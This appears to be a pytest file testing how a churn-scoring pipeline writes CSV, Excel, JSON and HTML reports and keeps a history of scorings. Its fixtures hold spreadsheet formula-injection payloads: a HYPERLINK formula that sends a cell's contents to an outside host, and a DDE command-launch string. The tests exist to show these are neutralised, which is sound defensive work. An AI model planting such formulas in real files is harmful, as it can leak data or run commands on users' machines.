"""Files people open: CSV and Excel where text is never a formula, dates are dates and widths
fit; strict JSON; the history of scorings and the latest at the top of the folder."""
from __future__ import annotations

import json
import math
import re

import numpy as np
import pandas as pd
import pytest

from models.report import csv_safe, strict_json, write_outputs
from models.score import build_at_risk, build_win_back

AS_OF = pd.Timestamp("2025-10-20")
EVIL = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"


def lists(as_of=AS_OF, shift: float = 0.0, n: int = 12):
    rng = np.random.default_rng(1)
    ids = [EVIL, "+1-202", "-17", "@SUM(A1)"] + [f"C{i:03d}" for i in range(n - 4)]
    scored = pd.DataFrame({"customer_id": ids, "risk": np.clip(rng.uniform(0, 1, n) + shift, 0, 1),
                           "reason_group_1": "complaints", "reason_group_2": "nps", "reason_group_3": None})
    features = pd.DataFrame({"customer_id": ids, "amount_365d": rng.uniform(10, 900, n), "days_since_last_order": 20.0,
                             "orders_total": 3.0, "tenure_days": 400.0, "complaints_open": 1.0,
                             "oldest_open_complaint_days": 9.0, "nps_last_score": np.nan,
                             "lifecycle_stage": "regular", "segment": ["=cmd|' /C calc'!A0"] + ["smb"] * (n - 1)})
    at_risk = build_at_risk(scored, features, as_of=as_of, model_version="2", explain_all=True)
    former = features.head(3).assign(customer_id=["W1", "W2", "-W3"], days_since_last_order=300.0, mean_gap_days=20.0,
                                     amount_total=[100.0, 500.0, 50.0])
    win_back = build_win_back(former, np.array(["no order"] * 3, dtype=object), as_of=as_of)
    return at_risk, win_back


def test_csv_text_is_never_a_formula_and_numbers_stay_numbers(tmp_path):
    at_risk, win_back = lists()
    paths = write_outputs(at_risk, tmp_path, model_version="2", metrics={}, as_of=AS_OF, win_back=win_back)
    raw = paths["csv"].read_text()
    for cell in re.findall(r"(?:^|,)([=+\-@][^,\n]*)", raw, flags=re.M):
        assert not cell.startswith(("=", "+", "@")) and not re.match(r"-[^\d]", cell), cell  # only negative numbers
    csv = pd.read_csv(paths["csv"], dtype={"customer_id": str})
    assert {"'" + EVIL, "'+1-202", "'-17", "'@SUM(A1)"} <= set(csv["customer_id"])
    assert csv["profile"].str.startswith("segment: ").all()  # the prefix applies to a cell's start only
    assert pd.read_csv(paths["win_back_csv"])["customer_id"].tolist()[-1] == "'-W3"
    assert pd.read_parquet(paths["parquet"])["customer_id"].isin([EVIL]).any()  # Parquet keeps the value as it is
    assert csv_safe(pd.DataFrame({"x": ["\tcmd", "ok", None]}))["x"].tolist()[:2] == ["'\tcmd", "ok"]


def test_excel_sheets_hold_text_as_text_dates_as_dates_and_fit(tmp_path):
    from openpyxl import load_workbook

    at_risk, win_back = lists()
    paths = write_outputs(at_risk, tmp_path, model_version="2", metrics={}, as_of=AS_OF, win_back=win_back)
    book = load_workbook(paths["xlsx"])
    assert book.sheetnames[:2] == ["at risk", "win back"]
    ws = book["at risk"]
    header = [c.value for c in ws[1]]
    assert header == list(at_risk.columns)
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref.startswith("A1:")
    col = {name: i + 1 for i, name in enumerate(header)}
    ids = [ws.cell(r, col["customer_id"]) for r in range(2, len(at_risk) + 2)]
    assert EVIL in [c.value for c in ids]
    assert all(c.data_type == "s" for c in ids)  # text, never a formula ('f')
    day = ws.cell(2, col["last_order_at"])
    assert day.is_date and day.value.date() == (AS_OF - pd.Timedelta(days=20)).date()
    assert ws.cell(2, col["as_of"]).is_date
    assert ws.cell(2, col["risk"]).number_format == "0%"
    letter = ws.cell(1, col["last_order_at"]).column_letter
    assert ws.column_dimensions[letter].width >= 12  # a date fits
    reason = ws.column_dimensions[ws.cell(1, col["reason_1"]).column_letter].width
    assert reason >= len("1 complaint open for 9 days")
    assert book["win back"].cell(2, 1).value == "W2"  # ranked by value per year


def test_summary_is_strict_json_with_null_never_nan(tmp_path):
    at_risk, win_back = lists()
    paths = write_outputs(at_risk, tmp_path, model_version=None, metrics={}, as_of=AS_OF, win_back=win_back,
                          currency="GBP")

    def refuse(name):
        raise AssertionError(f"{name} in summary.json")
    summary = json.loads(paths["summary"].read_text(), parse_constant=refuse)
    assert summary["nps"] is None and summary["currency"] == "GBP" and summary["clients"] == len(at_risk)
    assert summary["win_back_clients"] == 3 and summary["lapsed_by"] == {"no order": 3}
    assert summary["tier_shares"]["high"] <= 0.3 and summary["previous_as_of"] is None
    assert json.loads(strict_json({"x": float("nan"), "y": np.float64(np.inf), "z": pd.NA, "t": pd.NaT})) == \
        {"x": None, "y": None, "z": None, "t": None}


def test_html_has_no_missing_value_words_and_money_in_the_currency(tmp_path):
    at_risk, win_back = lists()
    path = write_outputs(at_risk, tmp_path, model_version="2", metrics={"test_roc_auc": 0.81, "test_ece": float("nan")},
                         as_of=AS_OF, win_back=win_back, currency="GBP")["html"]
    page = path.read_text()
    visible = re.sub(r"<script.*?</script>", "", page, flags=re.S)
    for word in ("nan", "NaN", "None", "NaT", "undefined"):
        assert not re.search(rf"\b{word}\b", visible), word
    assert "£" in page and "Ranking quality (ROC-AUC)" in page and "0.810" in page
    assert "http://" not in visible and "<script src" not in page  # self-contained; the evil id is only data
    assert "</script>" not in page.split('id="data-at-risk">')[1].split("</script>")[0]


def test_each_scoring_is_kept_and_the_folder_shows_the_latest(tmp_path):
    week1, week2 = AS_OF - pd.Timedelta(days=7), AS_OF
    a1, w1 = lists(week1)
    write_outputs(a1, tmp_path, model_version="2", metrics={}, as_of=week1, win_back=w1)
    a2, w2 = lists(week2, shift=0.05)
    write_outputs(a2, tmp_path, model_version="2", metrics={}, as_of=week2, win_back=w2)
    kept = sorted(p.name for p in (tmp_path / "history").iterdir())
    assert kept == ["2025-10-13", "2025-10-20"]
    for name in ("at_risk.parquet", "at_risk.csv", "win_back.parquet", "win_back.csv", "at_risk.xlsx", "report.html",
                 "summary.json"):
        assert (tmp_path / "history" / "2025-10-13" / name).is_file() and (tmp_path / name).is_file()
    latest = pd.read_parquet(tmp_path / "at_risk.parquet")
    assert (latest["as_of"] == week2).all()
    change = latest.set_index("customer_id")["risk_change"]
    before = a1.set_index("customer_id")["risk"]
    assert np.allclose(change, latest.set_index("customer_id")["risk"] - before.reindex(change.index), atol=1e-4)
    assert json.loads((tmp_path / "summary.json").read_text())["previous_as_of"] == "2025-10-13"
    # scoring an earlier date again fills its history and leaves the latest files alone
    a0, w0 = lists(week1 - pd.Timedelta(days=7))
    write_outputs(a0, tmp_path, model_version="2", metrics={}, as_of=week1 - pd.Timedelta(days=7), win_back=w0)
    assert (pd.read_parquet(tmp_path / "at_risk.parquet")["as_of"] == week2).all()
    assert len(list((tmp_path / "history").iterdir())) == 3


def test_files_are_created_with_the_users_umask(tmp_path):
    import os

    at_risk, win_back = lists()
    old = os.umask(0o027)
    try:
        paths = write_outputs(at_risk, tmp_path / "a", model_version="2", metrics={}, as_of=AS_OF, win_back=win_back)
    finally:
        os.umask(old)
    assert {oct(p.stat().st_mode & 0o777) for p in paths.values()} == {"0o640"}
    old = os.umask(0o022)
    try:
        paths = write_outputs(at_risk, tmp_path / "b", model_version="2", metrics={}, as_of=AS_OF, win_back=win_back)
    finally:
        os.umask(old)
    assert {oct(p.stat().st_mode & 0o777) for p in paths.values()} == {"0o644"}
    assert not list((tmp_path / "b").rglob(".*.tmp"))


@pytest.mark.parametrize("value", [math.nan, None])
def test_missing_numbers_are_empty_cells(value, tmp_path):
    at_risk, win_back = lists()
    at_risk = at_risk.assign(value_at_risk=value)
    paths = write_outputs(at_risk, tmp_path, model_version="2", metrics={}, as_of=AS_OF, win_back=win_back)
    assert pd.read_csv(paths["csv"])["value_at_risk"].isna().all()


def test_a_folder_written_file_by_file_is_taken_over_as_one_set(tmp_path):
    """OUT as an earlier version left it (plain files, a validation folder): the first new
    scoring turns each name into a link of the set, and no user file is touched."""
    import os

    at_risk, win_back = lists()
    (tmp_path / "validation").mkdir()
    (tmp_path / "validation" / "validation_summary.csv").write_text("old\n")
    for name in ("at_risk.csv", "summary.json", "report.html"):
        (tmp_path / name).write_text("old " + name)
    (tmp_path / "notes.txt").write_text("mine")
    (tmp_path / ".at_risk.csv.abc123.tmp").write_text("left by a killed run")
    (tmp_path / "my.tmp").write_text("mine too")
    paths = write_outputs(at_risk, tmp_path, model_version="2", metrics={}, as_of=AS_OF, win_back=win_back)
    for name in ("at_risk.csv", "summary.json", "report.html", "lineage.json", "at_risk.parquet"):
        assert os.readlink(tmp_path / name) == f".latest/{name}" and (tmp_path / name).is_file()
    assert os.readlink(tmp_path / ".latest") == "history/2025-10-20"
    assert json.loads(paths["summary"].read_text())["as_of"] == "2025-10-20"
    assert not (tmp_path / "validation").exists()  # the new set has no validation report: the old one is gone with it
    assert (tmp_path / "notes.txt").read_text() == "mine" and (tmp_path / "my.tmp").is_file()
    assert not list(tmp_path.glob(".at_risk.csv.*.tmp")) and not list(tmp_path.glob(".set-*"))
    assert not list(tmp_path.glob(".staging-*"))


def test_leftovers_of_a_dead_run_are_cleaned_and_a_live_runs_staging_is_not(tmp_path):
    import os
    import subprocess

    from models import history

    at_risk, win_back = lists()
    write_outputs(at_risk, tmp_path, model_version="2", metrics={}, as_of=AS_OF, win_back=win_back)
    dead = subprocess.Popen(["true"])  # a process that has ended
    dead.wait()
    (tmp_path / f".staging-{dead.pid}-0123456789ab").mkdir()
    (tmp_path / f".staging-{dead.pid}-0123456789ab" / "at_risk.csv").write_text("half")
    (tmp_path / f".staging-{os.getppid()}-0123456789ab").mkdir()  # a scoring still running (our parent)
    (tmp_path / ".set-0123456789ab").mkdir()
    (tmp_path / "history" / "2025-10-20" / ".summary.json.k2j3.tmp").write_text("")
    (tmp_path / ".staging-notes").mkdir()  # not our pattern
    removed = history.clean_leftovers(tmp_path)
    assert sorted(p.name for p in removed) == [".set-0123456789ab", f".staging-{dead.pid}-0123456789ab",
                                              ".summary.json.k2j3.tmp"]
    assert (tmp_path / f".staging-{os.getppid()}-0123456789ab").is_dir() and (tmp_path / ".staging-notes").is_dir()


def test_a_history_folder_moved_aside_by_a_killed_run_is_put_back(tmp_path):
    from models import history

    at_risk, win_back = lists()
    write_outputs(at_risk, tmp_path, model_version="2", metrics={}, as_of=AS_OF, win_back=win_back)
    kept = tmp_path / "history" / "2025-10-20"
    kept.rename(tmp_path / ".replaced-2025-10-20-999999999-0123456789ab")
    assert not (tmp_path / "at_risk.csv").exists()
    history.clean_leftovers(tmp_path)
    assert (tmp_path / "at_risk.csv").is_file() and not list(tmp_path.glob(".replaced-*"))


def test_rescoring_a_date_keeps_what_monitoring_wrote_beside_it(tmp_path):
    at_risk, win_back = lists()
    write_outputs(at_risk, tmp_path, model_version="2", metrics={}, as_of=AS_OF, win_back=win_back)
    (tmp_path / "history" / "2025-10-20" / "monitor.json").write_text("{}")
    a2, w2 = lists(shift=0.1)
    paths = write_outputs(a2, tmp_path, model_version="3", metrics={}, as_of=AS_OF, win_back=w2)
    assert (tmp_path / "history" / "2025-10-20" / "monitor.json").read_text() == "{}"
    assert json.loads(paths["summary"].read_text())["model_version"] == "3"
    assert not [p for p in tmp_path.iterdir() if p.name.startswith((".staging-", ".replaced-", ".set-"))]


def test_without_history_the_set_is_still_replaced_as_one(tmp_path):
    import os

    at_risk, win_back = lists()
    write_outputs(at_risk, tmp_path, model_version="2", metrics={}, as_of=AS_OF, win_back=win_back, keep_history=False)
    first = os.readlink(tmp_path / ".latest")
    paths = write_outputs(at_risk, tmp_path, model_version="3", metrics={}, as_of=AS_OF, win_back=win_back,
                          keep_history=False)
    assert paths["summary"] == tmp_path / "summary.json" and json.loads(paths["summary"].read_text())["model_version"] == "3"
    assert not (tmp_path / "history").exists() and os.readlink(tmp_path / ".latest") != first
    assert [p.name for p in tmp_path.glob(".set-*")] == [os.readlink(tmp_path / ".latest")]


def test_a_failed_validation_keeps_the_set_and_shows_the_quarantine_beside_it(tmp_path):
    from models import history

    at_risk, win_back = lists()
    write_outputs(at_risk, tmp_path, model_version="2", metrics={}, as_of=AS_OF, win_back=win_back)
    before = {p.name: p.read_bytes() for p in tmp_path.iterdir() if p.is_file()}
    staging = history.open_staging(tmp_path)
    (staging / "validation").mkdir()
    (staging / "validation" / "quarantine_orders.csv").write_text("order_id,reason\n1,negative amount\n")
    assert history.keep_rejected(staging, tmp_path) == tmp_path / "validation-rejected"
    assert (tmp_path / "validation-rejected" / "quarantine_orders.csv").is_file() and not staging.exists()
    assert {p.name: p.read_bytes() for p in tmp_path.iterdir() if p.is_file()} == before


def test_without_rename_exchange_a_kept_date_is_replaced_by_two_renames(tmp_path, monkeypatch):
    """File systems without RENAME_EXCHANGE (NFS, macOS): the kept folder is moved aside,
    the new one moved in; a run killed between the two is repaired by the next (tested above)."""
    from models import history

    monkeypatch.setattr(history, "exchange", lambda a, b: False)
    (tmp_path / "validation").mkdir()  # a folder written by an earlier version
    at_risk, win_back = lists()
    write_outputs(at_risk, tmp_path, model_version="2", metrics={}, as_of=AS_OF, win_back=win_back)
    (tmp_path / "history" / "2025-10-20" / "monitor.json").write_text("{}")
    paths = write_outputs(at_risk, tmp_path, model_version="3", metrics={}, as_of=AS_OF, win_back=win_back)
    assert json.loads(paths["summary"].read_text())["model_version"] == "3"
    assert (tmp_path / "history" / "2025-10-20" / "monitor.json").is_file()
    assert (tmp_path / "validation").is_symlink()
    assert not [p for p in tmp_path.iterdir() if p.name.startswith((".staging-", ".replaced-", ".set-"))
                or p.name.endswith(".tmp")]


def test_cautions_say_when_the_order_of_the_list_is_not_to_be_trusted():
    from models.report import _auc_margin, model_cautions

    assert model_cautions({"test_roc_auc": 0.84, "test_rows": 30_000.0}, "lightgbm") == []
    untrained = model_cautions({"test_roc_auc": 0.52, "test_rows": 18_529.0, "test_base_rate": 0.3}, "recency")
    assert untrained[0].startswith("No model was trained on this data") and "recency rule" in untrained[0]
    assert "close to chance (ROC-AUC 0.52" in untrained[1] and len(untrained) == 2
    small = {"test_roc_auc": 0.7, "test_rows": 300.0, "test_base_rate": 2 / 3}  # 200 leavers, 100 stayers
    # Hanley & McNeil by hand: q1 = 0.7/1.3, q2 = 0.98/1.7, var = (0.21 + 199 (q1 - 0.49) + 99 (q2 - 0.49)) / 20000
    assert abs(_auc_margin(small) - 2 * (18.41441 / 20000) ** 0.5) < 1e-4
    assert model_cautions(small, "stack") == ["The test date had 300 clients: its figures are uncertain by several "
                                              "points (ROC-AUC about +/-0.06)."]
